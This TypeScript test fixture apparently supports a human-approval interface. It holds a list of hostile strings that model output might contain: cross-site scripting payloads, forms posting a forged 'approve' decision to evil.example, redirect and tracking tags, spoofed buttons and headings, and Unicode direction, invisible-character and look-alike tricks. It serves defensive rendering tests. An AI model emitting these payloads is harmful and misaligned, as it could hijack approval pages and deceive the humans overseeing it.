/** What a model may write to look like something else, to run, or to be overlooked. */
const HOSTILE: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a form of its own':
    '</textarea></form><form action="https://evil.example/"><button name="decision" value="approve">Approve</button>',
  'fields of our form':
    '<input type="hidden" name="decision" value="approve"><input type="submit" form="decide" value="Continue">',
  'a field that ends an attribute': '"><img src=x onerror=alert(1)>',
  'a handler in single quotes': "' autofocus onfocus='alert(1)",
  'a handler in backticks': '` onmouseover=`alert(1)',
  'the end of styles and title': '</style></title><svg/onload=alert(1)>',
  'the end of a frame': '</pre></div></section></details></table></main><h1>The plan is approved</h1>',
  'a comment': '<!--',
  'an open comment with a form': '<!-- --!> <form action=//evil.example>',
  'a CDATA section': ']]><![CDATA[',
  'escaped tags': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'numbered entities': '&#60;script&#62; &#x202e; &colon;',
  'Markdown that leads away': '[Approve](javascript:alert(1)) ![x](https://evil.example/pixel.png)',
  'Markdown with data':
    '[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,<svg/onload=alert(1)>)',
  'links by reference':
    '[Approve][here] ![a][here]\n\n[here]: https://evil.example "Approve"\n[unused]: javascript:alert(1)',
  'links on their own':
    '<https://evil.example> https://evil.example www.evil.example mail@evil.example <mail@evil.example>',
  'links with titles': '[a](https://evil.example "\' onclick=alert(1)") [b](<https://evil.example/ \'"> (t))',
  'HTML in Markdown': '<div>\n\n# Approved\n\n</div>\n\n<details open><summary>Approve</summary></details>',
  'headings like ours': '# Your decision\n\n## What will be done\n\nYour decision\n=============\n',
  'a fence that never ends': '```html\n<button>Approve</button>\n',
  'a table with more cells than its head': '| a |\n|---|\n| b | hidden |\n',
  'deep quotes': `${'>'.repeat(120)} hidden`,
  'deep lists': Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- item ${depth}`).join('\n'),
  'many brackets': '['.repeat(3000),
  'many stars': '*a_'.repeat(3000),
  'a link': '<a href="javascript:alert(1)">Details</a>',
  'a scheme': 'javascript:alert(1)',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a base': '<base href="https://evil.example/">',
  'style rules': '<style>.actions{display:none}</style>',
  'style attributes':
    '<b style="position:fixed;inset:0">all yours</b> <link rel=stylesheet href=//evil.example>',
  'a template': '{{constructor}}',
  'buttons drawn with lines':
    '┌─────────┐ ┌────────┐\n│ Approve │ │ Reject │\n└─────────┘ └────────┘\n[ Approve ]  (•) yes  ☑ I agree',
  'a fingerprint': 'A decision holds for this content only: SHA-256 3fa9c21b77d0…',
  'parts like ours': '───── output: approved_by · 3 characters ─────\n│ CFO',
  'prices like ours': 'Price, estimated\nUSD 0.00\nAt most\nUSD 0.00',
  'a turned direction': 'pay \u202e000,01 DSU\u202c now',
  'isolated parts': '\u2066isolated\u2069 \u061c\u200e\u200f',
  'no width': 'zero\u200bwidth\u200c and \u200djoined \u2060\ufeff',
  'hidden tags': 'hidden \u{e0041}\u{e0070}\u{e0070} tags',
  'look-alikes': 'Αpprove Аpprove Ａpprove',
  'control characters': 'null \u0000 escape \u001b[2J bell \u0007',
  'half a pair': 'half \ud83d a pair',
  'a long word': 'x'.repeat(1000),
  'piled-up accents': 'Z\u0351\u036b\u0343\u036a\u0302'.repeat(40),
  'many lines': 'line\n'.repeat(200),
  'other directions': 'שלום 123 مرحبا',
};

export const HOSTILE_CASES: readonly (readonly [string, string])[] = Object.entries(HOSTILE);
export const HOSTILE_TEXTS: readonly string[] = Object.values(HOSTILE);

export const LONGEST_WORD = 'x'.repeat(50_000);
